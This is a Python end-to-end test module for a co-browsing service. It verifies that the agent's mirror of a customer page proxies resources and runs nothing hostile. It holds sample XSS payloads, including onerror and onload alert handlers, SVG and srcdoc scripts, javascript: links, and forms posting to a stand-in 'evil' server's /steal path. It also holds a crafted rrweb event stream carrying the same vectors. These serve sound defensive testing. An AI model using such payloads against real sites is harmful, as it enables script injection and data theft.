"""The mirror loads everything through cobrowse, and nothing hostile reaches it (S7, §8).

The pages here live on a website of this module's own: it serves a hostile page
with a Content-Security-Policy that keeps the *customer's* browser from following
the hostile references (so the "evil" server's log speaks for the agent's browser
alone), while the DOM rrweb records still carries every one of them. Nothing keeps
a browser that runs scripts from following a meta refresh, so the page's refresh
waits an hour; the crafted client sends one that would fire at once.
"""

from __future__ import annotations

import json
import shutil
import struct
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import ConsoleMessage, Dialog, Page, WebSocket, expect
from starlette.applications import Starlette
from starlette.requests import Request as HttpRequest
from starlette.responses import FileResponse, HTMLResponse, PlainTextResponse, Response
from starlette.routing import Route
from websockets.sync.client import connect
from websockets.typing import Origin

from cobrowse.core.resource_urls import parse_proxied_path
from cobrowse.store.db import Database
from cobrowse.store.sites import SiteStore
from tests.e2e.helpers import (
    artifacts,
    join,
    join_and_see,
    mirror,
    open_site,
    sign_in,
    start_with_widget,
)
from tests.support import Deployment, ServerThread, deploy, free_port, plain_server, run_async

SITE = "styled"
FONT_FILE = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans-Bold.ttf")
HOSTILE_MARK = "HOSTILE"

STYLED_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Styled</title>
<script src="{cobrowse}/cobrowse.js" defer></script>
<link rel="stylesheet" href="/css/styled.css">
</head><body>
<h1 class="branded">Styled page</h1>
<img id="photo" alt="photo" width="40" height="40" src="/img/pixel.png"
     srcset="/img/pixel.png 1x, /img/pixel-2x.png 2x">
<div id="tile" style="width: 40px; height: 40px; background-image: url('/img/tile.png')"></div>
<div id="banner"></div>
</body></html>
"""

STYLESHEET = """@font-face {
  font-family: "ShopFont"; src: url("../fonts/shop.ttf") format("truetype");
}
.branded { font-family: "ShopFont", monospace; }
#banner { width: 40px; height: 40px; background-image: url("../img/banner.png"); }
"""

HOSTILE_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Hostile</title>
<meta http-equiv="refresh" content="3600;url={evil}/refreshed">
<base href="{evil}/">
<script src="{cobrowse}/cobrowse.js" defer></script>
<script>console.log("{mark}-inline-script")</script>
<script src="{evil}/evil.js"></script>
<style>.tracked {{ background-image: url("{evil}/style-element.png"); }}</style>
</head><body>
<h1>Hostile page</h1>
<img alt="broken" src="/does-not-exist.png" onerror="alert('{mark}-onerror')">
<svg width="20" height="20" onload="alert('{mark}-svg-onload')">
  <script>alert("{mark}-svg-script")</script>
  <image href="{evil}/svg-image.png" width="20" height="20"></image>
</svg>
<a id="js-link" href="javascript:alert('{mark}-link')">a javascript: link</a>
<form action="{evil}/steal" method="post"><input name="q" value="x">
  <button formaction="{evil}/steal-too">Send</button></form>
<div class="tracked" style="width: 20px; height: 20px; background: url({evil}/inline.png)">x</div>
<iframe srcdoc="<script>parent.alert('{mark}-srcdoc')</script>"></iframe>
<object data="{evil}/object.swf"></object>
</body></html>
"""

# The hostile page's own protection: its browser loads nothing from the evil server
# and follows no refresh (a sandbox blocks automatic features), but runs its scripts.
HOSTILE_PAGE_CSP = (
    "default-src 'self' {cobrowse} {cobrowse_ws}; script-src 'self' 'unsafe-inline' {cobrowse}; "
    "style-src 'self' 'unsafe-inline'; img-src 'self' data:; base-uri 'self'; "
    "form-action 'self'; frame-src 'none'; object-src 'none'; "
    "sandbox allow-scripts allow-same-origin"
)


def png(width: int, height: int, rgb: tuple[int, int, int]) -> bytes:
    """A solid-colour PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    rows = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def site_files(folder: Path) -> None:
    (folder / "css").mkdir()
    (folder / "img").mkdir()
    (folder / "fonts").mkdir()
    (folder / "css" / "styled.css").write_text(STYLESHEET)
    (folder / "img" / "pixel.png").write_bytes(png(40, 40, (200, 30, 30)))
    (folder / "img" / "pixel-2x.png").write_bytes(png(80, 80, (200, 30, 30)))
    (folder / "img" / "tile.png").write_bytes(png(8, 8, (30, 160, 30)))
    (folder / "img" / "banner.png").write_bytes(png(8, 8, (30, 30, 200)))
    shutil.copy(FONT_FILE, folder / "fonts" / "shop.ttf")


def website(folder: Path, cobrowse_url: str, evil_url: str) -> Starlette:
    cobrowse_ws = cobrowse_url.replace("http://", "ws://")

    async def styled(request: HttpRequest) -> Response:
        return HTMLResponse(STYLED_PAGE.format(cobrowse=cobrowse_url))

    async def hostile(request: HttpRequest) -> Response:
        body = HOSTILE_PAGE.format(cobrowse=cobrowse_url, evil=evil_url, mark=HOSTILE_MARK)
        policy = HOSTILE_PAGE_CSP.format(cobrowse=cobrowse_url, cobrowse_ws=cobrowse_ws)
        return HTMLResponse(body, headers={"Content-Security-Policy": policy})

    async def asset(request: HttpRequest) -> Response:
        target = (folder / request.path_params["path"]).resolve()
        if not target.is_relative_to(folder) or not target.is_file():
            return PlainTextResponse("No such file.", status_code=404)
        return FileResponse(target)

    return Starlette(
        routes=[
            Route("/styled.html", styled),
            Route("/hostile.html", hostile),
            Route("/{path:path}", asset),
        ]
    )


class EvilServer:
    """Another origin that records every request it gets."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"

        async def anything(request: HttpRequest) -> Response:
            self.hits.append(str(request.url))
            return PlainTextResponse("evil")

        app = Starlette(routes=[Route("/{path:path}", anything, methods=["GET", "POST"])])
        self.thread: ServerThread = plain_server(app, self.port)


@pytest.fixture(scope="module")
def evil() -> Iterator[EvilServer]:
    server = EvilServer()
    server.thread.start()
    yield server
    server.thread.stop()


@pytest.fixture(scope="module")
def deployment(tmp_path_factory: pytest.TempPathFactory, evil: EvilServer) -> Iterator[Deployment]:
    running = deploy(tmp_path_factory.mktemp("cobrowse"), {})
    folder = tmp_path_factory.mktemp("site").resolve()
    site_files(folder)
    port = free_port()
    origins = [f"http://localhost:{port}", f"http://127.0.0.1:{port}"]

    async def register() -> None:
        db = Database(running.settings.database_url)
        try:
            sites = SiteStore(db)
            await sites.add(SITE, origins)
            # The website is on localhost: only tests and the demo may allow that.
            await sites.change_resources(SITE, allow_private_addresses=True)
        finally:
            await db.close()

    run_async(register)
    site = plain_server(website(folder, running.url, evil.url), port)
    site.start()
    running.threads.append(site)
    running.site_urls[SITE] = origins[0]
    yield running
    running.stop()


def watch_requests(page: Page) -> list[str]:
    """Every URL the page (and its frames) requests from now on."""
    urls: list[str] = []
    page.on("request", lambda request: urls.append(request.url))
    return urls


def proxied_urls(deployment: Deployment, urls: list[str]) -> set[str]:
    """The website URLs behind the agent's /resources/ requests."""
    prefix = deployment.url
    return {
        parse_proxied_path(url[len(prefix) :]).url
        for url in urls
        if url.startswith(f"{prefix}/resources/")
    }


def mirror_evaluate(agent: Page, function_of_document: str) -> Any:
    """Run a JavaScript function of the mirror's document from the console page: the
    mirror runs no script, but it is same-origin with the console."""
    return agent.evaluate(
        "() => { const doc = document.querySelector('iframe[title=\"Customer view\"]')"
        f".contentDocument; return ({function_of_document})(doc); }}"
    )


def font_loaded(agent: Page, family: str) -> bool:
    """Whether the mirror has loaded the web font, asking until it has (or gave up)."""
    check = f"(doc) => doc.fonts.status === 'loaded' && doc.fonts.check('16px {family}')"
    for _ in range(100):
        if mirror_evaluate(agent, check):
            return True
        agent.wait_for_timeout(100)
    return False


def test_styled_page_renders_in_the_mirror_through_the_resource_proxy(
    deployment: Deployment, agent_name: str, customer: Page, agent: Page
) -> None:
    site = deployment.site_urls[SITE]
    open_site(customer, f"{site}/styled.html")
    session_id = start_with_widget(customer)
    sign_in(agent, deployment, agent_name)
    requested = watch_requests(agent)
    view = join_and_see(agent, session_id, "Styled page")

    expect(view.locator("#photo")).to_have_js_property("complete", True)
    assert font_loaded(agent, "ShopFont")
    assert mirror_evaluate(agent, "(doc) => doc.getElementById('photo').naturalWidth") > 0
    backgrounds = mirror_evaluate(
        agent,
        "(doc) => ['tile', 'banner'].map((id) => "
        "doc.defaultView.getComputedStyle(doc.getElementById(id)).backgroundImage)",
    )
    assert all(f"{deployment.url}/resources/{session_id}/" in image for image in backgrounds)
    agent.screenshot(path=artifacts() / "stream-filter-styled-agent.png")
    customer.screenshot(path=artifacts() / "stream-filter-styled-customer.png")

    assert not [url for url in requested if url.startswith((site, "http://127.0.0.1"))]
    assert all(url.startswith((deployment.url, "data:", "about:", "blob:")) for url in requested)
    assert {
        f"{site}/fonts/shop.ttf",
        f"{site}/img/pixel.png",
        f"{site}/img/tile.png",
        f"{site}/img/banner.png",
    } <= proxied_urls(deployment, requested)


class HostileWatch:
    """What hostile code could make visible in the agent's console page."""

    def __init__(self, agent: Page) -> None:
        self.dialogs: list[str] = []
        self.console: list[str] = []
        self.requests = watch_requests(agent)
        agent.on("dialog", self._dialog)
        agent.on("console", self._console)

    def _dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _console(self, message: ConsoleMessage) -> None:
        self.console.append(message.text)

    def assert_nothing_ran(self, agent: Page, console_url: str, evil: EvilServer) -> None:
        assert agent.url == console_url
        assert self.dialogs == []
        assert not [text for text in self.console if HOSTILE_MARK in text]
        assert not [url for url in self.requests if url.startswith(evil.url)]
        assert evil.hits == []


def received_stream(agent: Page) -> list[str]:
    """The stream frames the console's socket receives from now on."""
    frames: list[str] = []

    def capture(socket: WebSocket) -> None:
        socket.on(
            "framereceived",
            lambda payload: frames.append(str(payload)) if '"t":"stream"' in str(payload) else None,
        )

    agent.on("websocket", capture)
    return frames


def test_hostile_page_runs_nothing_and_loads_nothing_in_the_console(
    deployment: Deployment, evil: EvilServer, agent_name: str, customer: Page, agent: Page
) -> None:
    evil.hits.clear()
    open_site(customer, f"{deployment.site_urls[SITE]}/hostile.html")
    session_id = start_with_widget(customer)
    sign_in(agent, deployment, agent_name)
    console_url = agent.url
    watch = HostileWatch(agent)
    view = join_and_see(agent, session_id, "Hostile page")
    expect(view.get_by_text("a javascript: link")).to_be_visible()
    # Give anything that would run or load a moment in which it could (no timing is
    # asserted): a round trip through the customer's page and back.
    customer.evaluate("() => document.body.insertAdjacentHTML('beforeend', '<p>later</p>')")
    expect(view.get_by_text("later")).to_be_visible()
    agent.screenshot(path=artifacts() / "stream-filter-hostile-agent.png")

    watch.assert_nothing_ran(agent, console_url, evil)
    assert evil.hits == []


def crafted_events(site: str, evil: str) -> list[dict[str, Any]]:
    """A page no rrweb would record: every hostile payload, by hand."""
    mark = HOSTILE_MARK

    def element(node_id: int, tag: str, children: list[Any], **attributes: Any) -> Any:
        return {
            "type": 2,
            "id": node_id,
            "tagName": tag,
            "attributes": attributes,
            "childNodes": children,
        }

    def text(node_id: int, content: str, **extra: Any) -> Any:
        return {"type": 3, "id": node_id, "textContent": content, **extra}

    head = element(
        3,
        "head",
        [
            element(4, "meta", [], **{"http-equiv": "refresh", "content": f"0;url={evil}/meta"}),
            element(5, "base", [], href=f"{evil}/"),
            element(6, "script", [text(7, f"alert('{mark}-script')")]),
            element(
                8, "style", [text(9, f"h1 {{ background: url({evil}/style.png) }}", isStyle=True)]
            ),
            element(10, "link", [], rel="stylesheet", href=f"{evil}/sheet.css"),
        ],
    )
    body = element(
        11,
        "body",
        [
            element(12, "h1", [text(13, "Crafted page")]),
            element(14, "img", [], src=f"{evil}/img.png", onerror=f"alert('{mark}-onerror')"),
            element(15, "img", [], src="relative.png", srcset=f"{evil}/a.png 1x, {evil}/b.png 2x"),
            element(16, "a", [text(17, "crafted link")], href=f"javascript:alert('{mark}-link')"),
            element(
                18,
                "svg",
                [element(19, "script", [text(20, f"alert('{mark}-svg')")], isSVG=True)],
                onload=f"alert('{mark}-svg-onload')",
                isSVG=True,
            ),
            element(21, "form", [], action=f"{evil}/steal"),
            element(22, "iframe", [], srcdoc=f"<script>parent.alert('{mark}-srcdoc')</script>"),
            element(23, "div", [text(24, "styled")], style=f"background: url({evil}/inline.png)"),
            element(25, "video", [], poster=f"{evil}/poster.png"),
        ],
    )
    html = element(2, "html", [head, body])
    document = {
        "type": 0,
        "id": 1,
        "childNodes": [{"type": 1, "id": 30, "name": "html", "publicId": "", "systemId": ""}, html],
    }
    later = {
        "source": 0,
        "adds": [
            {
                "parentId": 11,
                "nextId": None,
                "node": element(40, "script", [], src=f"{evil}/late.js"),
            },
            {
                "parentId": 11,
                "nextId": None,
                "node": element(
                    41, "img", [], src=f"{evil}/late.png", onload=f"alert('{mark}-late')"
                ),
            },
            # As rrweb does: each added node on its own, children after their parent.
            {"parentId": 11, "nextId": None, "node": element(42, "p", [])},
            {"parentId": 42, "nextId": None, "node": text(43, "Added later")},
        ],
        "removes": [],
        "texts": [],
        "attributes": [
            {
                "id": 12,
                "attributes": {
                    "style": f"background: url({evil}/mutated.png)",
                    "onclick": "alert(1)",
                },
            }
        ],
    }
    return [
        {
            "type": 4,
            "data": {"href": f"{site}/crafted.html", "width": 900, "height": 600},
            "timestamp": 1,
        },
        {
            "type": 2,
            "data": {"node": document, "initialOffset": {"top": 0, "left": 0}},
            "timestamp": 2,
        },
        {"type": 3, "data": later, "timestamp": 3},
        {
            "type": 3,
            "data": {
                "source": 8,
                "id": 9,
                "adds": [{"rule": f"p {{ background: url({evil}/rule.png) }}", "index": 0}],
            },
            "timestamp": 4,
        },
    ]


def test_crafted_customer_client_gets_nothing_hostile_to_the_console(
    deployment: Deployment, evil: EvilServer, agent_name: str, agent: Page
) -> None:
    evil.hits.clear()
    site = deployment.site_urls[SITE]
    ws_url = deployment.url.replace("http://", "ws://")
    frames = received_stream(agent)  # before the console opens its socket
    sign_in(agent, deployment, agent_name)
    console_url = agent.url
    watch = HostileWatch(agent)
    with connect(f"{ws_url}/ws/customer", origin=Origin(site), proxy=None) as customer:
        customer.send('{"v":1,"t":"start"}')
        session_id = json.loads(customer.recv(timeout=10))["session"]["id"]
        join(agent, session_id)
        while json.loads(customer.recv(timeout=10))["t"] != "agent_joined":
            pass
        for event in crafted_events(site, evil.url):
            customer.send(json.dumps({"v": 1, "t": "stream", "e": event}))
        view = mirror(agent)
        expect(view.get_by_text("Crafted page")).to_be_visible()
        expect(view.get_by_text("Added later")).to_be_visible()
        agent.screenshot(path=artifacts() / "stream-filter-crafted-agent.png")
        watch.assert_nothing_ran(agent, console_url, evil)

    relayed = "".join(frames)
    assert "Crafted page" in relayed
    for hostile in (evil.url, "javascript:", "alert(", "onerror", "onload", "onclick", "srcdoc"):
        assert hostile not in relayed
    assert '"tagName":"script"' not in relayed
    assert '"tagName":"base"' not in relayed
    assert "http-equiv" not in relayed
